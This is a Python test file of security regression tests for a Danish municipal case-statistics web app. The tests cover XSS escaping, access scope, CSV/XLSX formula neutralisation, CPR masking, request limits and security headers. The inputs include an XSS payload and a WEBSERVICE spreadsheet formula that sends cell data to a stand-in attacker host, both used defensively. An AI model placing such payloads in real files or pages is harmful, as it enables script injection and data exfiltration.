"""Issue 20's attacks, one regression test each, on a writable copy of the demo with auth on:
reflected XSS, a write outside the scope, the Data page's downloads, spreadsheet formulas,
CPR-shaped sign-in names, request size, malformed parameters, security headers and the
session cookie behind a TLS proxy. Import limits and encodings are tested in tests/ingest."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sagsindsigt.access import access_log, tokens
from sagsindsigt.cli import main
from sagsindsigt.web.security import CSP

from ._access_helpers import secured_copy, signed_in_as

pytestmark = pytest.mark.xdist_group("demo")
CPR = re.compile(r"(?<![0-9])[0-3][0-9][01][0-9][0-9]{2}[- ]?[0-9]{4}(?![0-9])")
HTML = {"Accept": "text/html"}


@pytest.fixture(autouse=True)
def _demo_key(demo_store, monkeypatch):
    monkeypatch.setenv("SAGSINDSIGT_SECRET_FILE", str(demo_store.secret_file))


@pytest.fixture(scope="module")
def hardened(demo_store, tmp_path_factory):
    with secured_copy(demo_store, tmp_path_factory.mktemp("hard")) as secured:
        yield secured


@pytest.fixture(scope="module")
def admin(hardened, demo_store):
    c = signed_in_as(hardened[0], demo_store, "admin", "kommune")
    yield c
    c.close()


@pytest.fixture(scope="module")
def bif_leder(hardened, demo_store):
    c = signed_in_as(hardened[0], demo_store, "leder", "BIF")
    yield c
    c.close()


def test_reflected_xss_in_a_complaint_id_is_escaped(admin):
    evil = "<svg onload=alert(document.domain)>"
    r = admin.get("/klager/registrering/%3Csvg%20onload%3Dalert(document.domain)%3E",
                  headers=HTML)
    assert r.status_code == 404 and "Findes ikke" in r.text
    assert evil not in r.text and "&lt;svg onload=alert(document.domain)&gt;" in r.text
    assert r.headers["content-security-policy"] == CSP  # and no inline script would run
    api = admin.get("/api/complaints/%3Cscript%3Ex%3C%2Fscript%3E")
    assert api.status_code == 404 and api.headers["content-type"].startswith(
        "application/json")


def test_a_target_outside_the_scope_is_refused(bif_leder, hardened):
    _, store = hardened
    form = bif_leder.get("/maaltal/nyt").text
    assert 'value="SOF"' not in form and "Hele kommunen" not in form
    for admin in ("SOF", "TMF", ""):
        r = bif_leder.post("/maaltal/nyt", data={
            "id": f"ude_{admin or 'kommune'}", "kpi": "deadline_compliance",
            "administration": admin, "period": "2014", "direction": "min", "value": "80",
            "csrf_token": bif_leder.headers["X-CSRF-Token"]}, follow_redirects=False)
        assert r.status_code == 200 and "eget område" in r.text, admin
        assert not store._engine.query("SELECT 1 FROM targets WHERE id = ?",
                                       [f"ude_{admin or 'kommune'}"])
    ok = bif_leder.post("/maaltal/nyt", data={
        "id": "inde_bif", "kpi": "deadline_compliance", "administration": "BIF",
        "period": "2014", "direction": "min", "value": "80",
        "csrf_token": bif_leder.headers["X-CSRF-Token"]}, follow_redirects=False)
    assert ok.status_code == 303


def test_the_data_page_downloads_follow_the_page(hardened):
    app, store = hardened
    reader = tokens.create(store, "laeser-jca-hard", "laeser", "JCA")
    analyst = tokens.create(store, "analytiker-hard", "analytiker", "kommune")
    with TestClient(app) as c:
        for table in ("batches", "daekning", "afviste"):
            r = c.get(f"/download/data/{table}.csv",
                      headers={"Authorization": f"Bearer {reader}"})
            assert r.status_code == 403, table
            r = c.get(f"/download/data/{table}.csv",
                      headers={"Authorization": f"Bearer {analyst}"})
            assert r.status_code == 200, table


def test_a_formula_in_a_complaint_is_text_in_every_download(admin):
    payload = '=WEBSERVICE("http://angriber.example/?"&A2)'
    for i, start in enumerate(("=", "+", "-", "@")):
        made = admin.post("/api/complaints", json={
            "administration": "BIF", "unit": "JCA", "received": "2014-05-02",
            "kind": "realitet", "benefit_area": start + payload[1:] + str(i)},
            headers={"X-Registered-By": "test"})
        assert made.status_code == 201, made.text
    x = admin.get("/download/klager/klager_benefit_area.xlsx",
                  params={"period": "2014", "administration": "BIF"})
    ws = load_workbook(io.BytesIO(x.content)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)
             and "WEBSERVICE" in c.value]
    assert len(cells) == 4 and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    r = admin.get("/download/klager/klager_benefit_area.csv",
                  params={"period": "2014", "administration": "BIF"})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    found = [row[1] for row in rows if "WEBSERVICE" in row[1]]
    assert len(found) == 4 and all(v.startswith("'") for v in found)


def test_a_cpr_shaped_sign_in_name_is_masked_in_the_access_log(hardened):
    app, store = hardened
    c = TestClient(app, follow_redirects=False)
    token = c.get("/login").text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    r = c.post("/login", data={"name": "010203-1234", "password": "forkert-kode-x",
                               "csrf_token": token})
    assert r.status_code == 401
    logged = [e for e in access_log.entries(store, limit=100000) if e.action == "log ind"]
    assert logged and not any(CPR.search(str(vars(e))) for e in logged)
    assert any(e.actor == "XXXXXX-XXXX" for e in logged)


def test_request_bodies_have_a_limit(admin):
    big = {"administration": "BIF", "unit": "JCA", "received": "2014-05-02",
           "kind": "realitet", "summary": "x" * (2 * 1024 * 1024)}
    r = admin.post("/api/complaints", json=big, headers={"X-Registered-By": "test"})
    assert r.status_code == 413 and "større end" in r.json()["error"]
    r = admin.post("/klager/registrering", data={"summary": "x" * (2 * 1024 * 1024)},
                   headers=HTML)
    assert r.status_code == 413 and "For stor forespørgsel" in r.text


@pytest.mark.parametrize("url", [
    "/klager/registrering/K%00X", "/api/complaints/K%00X", "/side/sager?administration=B%00IF",
    "/api/kpi/cases_received?where=administration%3DB%00IF", "/api/kpi/cases_received?by=unit%0A",
    "/side/sager?period=2014%00"])
def test_control_characters_never_reach_a_query(admin, url):
    r = admin.get(url, headers=HTML)
    assert r.status_code == 400 and "Ugyldig forespørgsel" in r.text, (url, r.text[:200])


def test_malformed_parameters_answer_a_danish_400(admin, demo_store, capsys):
    r = admin.get("/api/kpi/cases_received", params={"by": "unit,unit"})
    assert r.status_code == 400 and "mere end én gang" in r.json()["error"]
    r = admin.get("/kvalitet/aarshjul", params={"year": "banan"}, headers=HTML)
    assert r.status_code == 400 and "&#39;year&#39;" in r.text and "Traceback" not in r.text
    assert "Field required" not in r.text and "value is not a valid" not in r.text
    r = admin.get("/findes-ikke", headers=HTML)
    assert r.status_code == 404 and "Siden findes ikke" in r.text and "Not Found" not in r.text
    r = admin.post("/maaltal/nyt", data={"id": "a/b", "kpi": "complaint_rate", "period": "2014",
                                         "direction": "max", "value": "2"}, headers=HTML)
    assert r.status_code == 200 and "må kun have bogstaver" in r.text
    assert main(["--db", demo_store.url, "kpi", "cases_received", "--by", "unit,unit"]) == 2
    assert "mere end én gang" in capsys.readouterr().err


def test_security_headers_and_the_cookie_behind_a_tls_proxy(hardened):
    app, _ = hardened
    with TestClient(app) as plain:
        r = plain.get("/login")
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
        assert "unsafe-inline" not in r.headers["content-security-policy"].split(
            "script-src")[1].split(";")[0]
        assert "strict-transport-security" not in r.headers
        assert "secure" not in r.headers["set-cookie"].lower()
        docs = plain.get("/docs")  # Swagger UI starts with an inline script: that page only
        assert "'unsafe-inline'" in docs.headers["content-security-policy"].split(";")[1]
    # over HTTPS (as uvicorn sets the scheme from a trusted proxy's X-Forwarded-Proto)
    with TestClient(app, base_url="https://sagsindsigt.example") as tls:
        r = tls.get("/login")
        assert "strict-transport-security" in r.headers
        assert "; secure" in r.headers["set-cookie"].lower()


@pytest.fixture(scope="module")
def fuzz_client(admin):
    return admin


@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=list(HealthCheck))
@given(slug=st.sampled_from(["overblik", "sager", "klager", "kvalitet", "data", "maaltal",
                             "sammenligning", "registreringspraksis", "borgerkontakt"]),
       params=st.dictionaries(
           st.sampled_from(["period", "administration", "unit", "case_type", "q", "year"]),
           st.text(max_size=12), max_size=4))
def test_no_page_answers_500_whatever_its_parameters(fuzz_client, slug, params):
    url = "/" if slug == "overblik" else f"/side/{slug}"
    r = fuzz_client.get(url, params=params, headers=HTML)
    assert r.status_code < 500, (url, params, r.text[:300])


def test_the_api_has_no_server_errors_on_negative_data(hardened):
    """schemathesis with data that violates the OpenAPI description (wrong types, missing
    fields, out-of-range values): a 4xx, never a 5xx."""
    import schemathesis
    from schemathesis.generation import GenerationMode

    app, store = hardened
    token = tokens.create(store, "negativ-fuzz", "admin", "kommune")
    from hypothesis.errors import Unsatisfiable

    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    fuzzed = 0
    for op in [r.ok() for r in schema.get_all_operations()]:
        @given(case=op.as_strategy(generation_mode=GenerationMode.NEGATIVE))
        @settings(max_examples=20, deadline=None, derandomize=True, database=None,
                  suppress_health_check=list(HealthCheck))
        def check(case):
            r = case.call(headers={"Authorization": f"Bearer {token}"})
            assert r.status_code < 500, (case.method, case.path, case.query,
                                         json.dumps(case.body, default=str)[:200], r.text[:300])

        try:
            check()
            fuzzed += 1
        except Unsatisfiable:  # nothing in its description to violate (no parameters)
            continue
    assert fuzzed >= 4
